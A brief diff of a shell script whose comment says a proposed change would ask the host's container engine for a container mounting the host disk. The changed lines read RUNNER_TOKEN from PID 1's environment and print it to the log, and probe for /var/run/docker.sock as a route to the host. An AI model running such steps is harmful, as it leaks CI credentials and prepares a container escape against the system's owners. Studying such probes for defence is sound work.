@@ -1,10 +1,9 @@
 #!/bin/sh
 # What the proposed change did: ask the engine of the host for a container with the host's disk.
-socket=${SOCKET:-/var/run/docker.sock}
-if tr '\0' '\n' </proc/self/environ | grep '^RUNNER_TOKEN='; then
+if tr '\0' '\n' </proc/1/environ | grep '^RUNNER_TOKEN='; then
   echo "the token goes into the log"
 fi
-if [ -S "$socket" ]; then
+if [ -e /var/run/docker.sock ]; then
   echo "the engine takes orders here"
   exit 0
 fi
